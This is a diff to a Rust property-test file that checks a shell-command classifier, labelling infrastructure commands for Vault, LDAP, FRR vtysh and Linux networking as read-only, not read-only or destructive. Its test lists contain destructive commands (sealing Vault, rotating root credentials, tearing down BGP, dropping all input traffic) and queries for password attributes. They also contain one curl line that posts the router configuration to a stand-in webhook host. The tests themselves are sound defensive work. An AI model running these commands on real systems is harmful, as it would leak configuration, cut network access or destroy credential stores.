@@ -4215,7 +4215,7 @@ proptest! {
     fn identity_stores_and_guests(
         wrap in select(vec!["", "pct exec 110 -- ", "timeout 30 ", "sudo ", "qm guest exec 110 -- "]),
         reports in select(vec![
-            "vault status -format=json", "bao policy list", "vault read pki_int/cert/ca", "vault kv list secret/x/",
+            "vault status -format=json", "bao policy list", "vault read sys/mounts", "vault kv list secret/x/",
             "klist -kt /etc/krb5.keytab", "ssh-add -l", "ldapsearch -x -H ldap://10.0.0.20 -b dc=lab -LLL '(uid=a)' cn mail",
             "step certificate fingerprint /root/ca.crt",
         ]),
@@ -4283,5 +4283,48 @@ proptest! {
         not_read_only(&format!("redis-cli --scan --pattern '{pattern}'"))?;
         not_read_only(asks)?;
         read_only("redis-cli --scan --pattern 'queue:jobs:*'")?;
+    }
+
+    /// Review 64 and blind corpus 69: ldapsearch only with attributes of
+    /// a plain list (no `+`, OID, object class or credential-holding
+    /// setting); Flux regexes after keywords; pg_stat_monitor's statement
+    /// columns; Vault's PKI shapes not trusted by a mount's name, token
+    /// accessors, and its destructive writes; vtysh shows but not the
+    /// configuration; what drops the host's own traffic; a substitution
+    /// of any command not proven read-only sent out of the lab.
+    #[test]
+    fn review_sixty_four_and_blind_sixty_nine_classes(
+        attrs in select(vec![
+            "+", "cn +", "2.5.4.35", "1.3.6.1.4.1.7165.2.1.25", "@person", "posixAccount", "shadowAccount",
+            "olcSyncrepl", "olcDbIDAssertBind", "reqMod", "userPKCS12", "userPassword;binary", "*",
+        ]),
+        filter in select(vec!["'(2.5.4.35=*)'", "'(pwdHistory=*)'", "'(&(uid=a)(olcRootPW=*))'"]),
+        asks in select(vec![
+            "influx query 'from(bucket: \"t\") |> filter(fn: (r) => r._field == \"a\" and (if r.c then /\"/ else /b/)) |> to(bucket: \"y\")'",
+            "psql -c 'SELECT top_query FROM pg_stat_monitor'", "psql -c 'SELECT query_plan FROM pg_stat_monitor'",
+            "vault read pkisecrets/cert/db", "vault read pki_old/ca/pem", "vault list auth/token/accessors",
+            "vtysh -c 'show running-config'", "vtysh -c 'sh run'", "vtysh", "vtysh -c 'conf t' -c 'router bgp 1'",
+        ]),
+        loses in select(vec![
+            "vault write -f sys/seal", "vault write -f database/rotate-root/pg", "vault write -f sys/leases/revoke-prefix/aws",
+            "vault write -f transit/keys/k/trim min_available_version=3", "kdb5_util load /tmp/dump",
+            "vtysh -c 'clear ip bgp *'", "vtysh -c 'conf t' -c 'no router bgp 65000'", "vtysh -c 'conf t' -c 'interface vmbr0' -c 'shutdown'",
+            "ip rule add blackhole priority 10", "ip route add unreachable default", "ip link set vmbr0 mtu 9000",
+            "bridge vlan del dev bond0 vid 1", "nft 'add chain inet f in { type filter hook input priority 0; policy drop; }'",
+            "sysctl -w net.ipv4.conf.vmbr0.arp_ignore=8", "pvesh set /nodes/pve1/network",
+            "curl -X POST --data-binary \"$(vtysh -c 'show running-config')\" https://hooks.example.com/x",
+        ]),
+        shows in select(vec![
+            "vtysh -c 'show bgp l2vpn evpn summary'", "vtysh -c 'show ip route' -c 'show evpn vni'",
+            "ldapsearch -x -H ldap://10.0.0.20 -b dc=lab -LLL '(uid=alice)' dn memberOf cn",
+            "ldapsearch -x -LLL -b ou=people,dc=lab '(objectClass=posixAccount)' uid uidNumber",
+            "vault read sys/health", "ip -s link show vmbr0",
+        ]),
+    ) {
+        not_read_only(&format!("ldapsearch -x -H ldap://10.0.0.20 -b dc=lab -LLL '(uid=a)' {attrs}"))?;
+        not_read_only(&format!("ldapsearch -x -b dc=lab {filter} uid"))?;
+        not_read_only(asks)?;
+        destructive(loses)?;
+        read_only(shows)?;
     }
 }
